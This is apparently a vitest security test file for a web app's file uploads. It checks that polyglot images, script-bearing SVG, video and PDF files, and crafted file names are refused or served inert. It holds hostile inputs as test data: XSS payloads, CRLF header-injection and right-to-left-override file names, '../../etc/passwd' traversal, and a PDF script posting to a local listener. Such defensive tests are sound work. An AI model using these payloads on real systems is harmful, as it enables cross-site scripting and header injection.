import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, onTestFinished, test } from 'vitest'
import { pdf } from '../../src/catalogues/testing/pdfs.ts'
import { mp4, picture } from '../../src/platform/files/testing/samples.ts'
import { complaintForm } from '../factories/complaint.ts'
import { productForm } from '../factories/product.ts'
import { buildRegistration, registrationForm } from '../factories/registration.ts'
import { refusal } from '../refusal.ts'
import { testApp, type TestApp } from '../test-app.ts'
import { PATIENT } from './patient.ts'

const PAYLOAD = '<script>alert(1)</script>'
const HOSTILE_NAME = 'x".jpg\r\nX-Evil: 1\r\n\r\n<script>\u202egpj.exe'

const asFile = (bytes: Buffer, type = 'image/jpeg') => new File([new Uint8Array(bytes)], HOSTILE_NAME, { type })

async function fetched({ app }: TestApp, address: string, headers = {}) {
  const { pathname, search } = new URL(address, 'http://baltra.test')
  return app.inject({ url: pathname + search, headers })
}

/** Pictures that are something else as well. */
async function polyglots(): Promise<Record<string, Buffer>> {
  const [jpeg, png, gif] = [await picture(24, 18, 'jpeg'), await picture(24, 18, 'png'), await picture(24, 18, 'gif')]
  const comment = Buffer.from(PAYLOAD)
  const length = Buffer.from([0xff, 0xfe, 0, comment.length + 2])
  return {
    'a page behind a JPEG': Buffer.concat([jpeg, Buffer.from(PAYLOAD)]),
    'a page in the comment of a JPEG': Buffer.concat([jpeg.subarray(0, 2), length, comment, jpeg.subarray(2)]),
    'a page behind a PNG': Buffer.concat([png, Buffer.from(PAYLOAD)]),
    'a script behind a GIF': Buffer.concat([gif, Buffer.from(`*/=1;${PAYLOAD}//`)]),
    'an archive behind a JPEG': Buffer.concat([jpeg, Buffer.from(`PK\x03\x04${PAYLOAD}`)]),
  }
}

test(
  'a picture that is something else as well is served as a picture, and is nothing else any more',
  PATIENT,
  async () => {
    const world = await testApp({ work: false })
    const asha = await world.build.customer()
    for (const [what, bytes] of Object.entries(await polyglots())) {
      const { data } = await world.as(asha).accounts.updateProfile({ body: { image: asFile(bytes) } })
      const { headers, rawPayload } = await fetched(world, data.image_url)
      expect(headers, what).toMatchObject({ 'content-type': 'image/webp', 'x-content-type-options': 'nosniff' })
      expect(headers['content-security-policy'], what).toContain("default-src 'none'")
      expect(rawPayload.includes('alert(1)'), what).toBe(false)
    }
  },
)

test('a file that is not a picture is refused as one, whatever its name', async () => {
  const world = await testApp({ work: false })
  const asha = await world.build.customer()
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${PAYLOAD}</svg>`
  const wrong = [
    svg,
    `<?xml version="1.0"?>${svg}`,
    `<!doctype html>${PAYLOAD}`,
    `GIF89a/*${PAYLOAD}*/`,
    `%PDF-1.7 ${svg}`,
    '',
  ]
  for (const text of wrong.filter(Boolean))
    expect(
      (await refusal(world.as(asha).accounts.updateProfile({ body: { image: asFile(Buffer.from(text)) } })))?.status,
    ).toBe(415)
  expect((await world.as(asha).accounts.profile()).data.image_url).toBe('')
})

test('a film with a page in it is served as a film that can do nothing, in public and in private', async () => {
  const world = await testApp({ work: false })
  const { as, build, services } = world
  const film = mp4()
  film.write(PAYLOAD, film.length - 200)
  const asha = await build.customer()
  const { id } = await buildRegistration(services, { customer: asha, status: 'Approved' })
  const filed = await as(asha).complaints.register({
    params: { id },
    body: { ...(await complaintForm()), damaged_Video: asFile(film, 'text/html') },
  })
  const { data: mine } = await as(asha).complaints.getMine({ params: { id: filed.data.id } })
  const group = await build.subCategory()
  const { data: product } = await as(await build.admin()).products.add({
    body: {
      ...(await productForm()),
      category_id: group.category_id,
      sub_category_id: group.id,
      product_video: asFile(film, 'text/html'),
    },
  })
  for (const address of [mine.damaged_video, product.product_video])
    for (const headers of [{}, { range: 'bytes=0-9' }, { accept: 'text/html' }]) {
      const answer = await fetched(world, address, headers)
      expect(answer.headers).toMatchObject({ 'content-type': 'video/mp4', 'x-content-type-options': 'nosniff' })
      expect(answer.headers['content-security-policy']).toContain("default-src 'none'")
    }
})

test('a PDF with scripts in it is refused without running them, and one is served as a PDF that can do nothing', async () => {
  const world = await testApp({ work: false })
  const { as, build } = world
  let calls = 0
  const outside = createServer((_, response) => {
    calls += 1
    response.end()
  })
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void outside.close())
  const { port } = outside.address() as AddressInfo
  const { add } = as(await build.admin()).catalogues
  const send = (bytes: Buffer) => add({ body: { catalogue_type: 'Winter', file: asFile(bytes, 'application/pdf') } })
  const script = `/OpenAction<</S/JavaScript/JS(this.submitForm\\("http://127.0.0.1:${port}/"\\))>>`
  await expect(send(pdf({ catalog: script }))).rejects.toThrow('This PDF runs scripts')
  expect(calls).toBe(0)
  const { data } = await send(pdf())
  const answer = await fetched(world, data.file)
  expect(answer.headers).toMatchObject({ 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff' })
  expect(answer.headers['content-security-policy']).toContain("default-src 'none'")
})

test('no person’s name can break the header that names a file', PATIENT, async () => {
  const world = await testApp({ work: false })
  const { as, app, build } = world
  const [asha, admin] = [await build.customer({ firstname: HOSTILE_NAME }), await build.admin()]
  const serials = ['SN"\r\nX-Evil: 1;filename=evil.exe', '../../etc/passwd\'\\"x', 'क्रम€é\u202egpj.exe']
  for (const serial_number of serials) {
    const form = await registrationForm({ serial_number, purchase_date: new Date().toISOString().slice(0, 10) })
    const { data } = await as(asha).registrations.register({ body: form })
    await as(admin).registrations.decide({ body: { stock_id: data.id, status: 'Approved' } })
    for (const [url, token] of [
      [`/api/stocks/warrantycertificate/${data.id}`, asha.token],
      [`/api/stocks/warrantycertificatebyadmin/${data.id}`, admin.token],
    ]) {
      const { headers, statusCode } = await app.inject({ url, headers: { authorization: `Bearer ${token}` } })
      expect([serial_number, statusCode]).toEqual([serial_number, 200])
      expect(headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/)
      expect(headers).not.toHaveProperty('x-evil')
    }
    const { data: mine } = await as(asha).registrations.getMine({ params: { id: data.id } })
    for (const address of [mine.bill_image_one, `${mine.bill_image_one}?download`]) {
      const { headers } = await fetched(world, address)
      expect(headers['content-disposition']).toMatch(/^(inline|attachment); filename="[\w.-]+"$/)
      expect(headers['content-security-policy']).toMatch(/sandbox/)
    }
  }
})
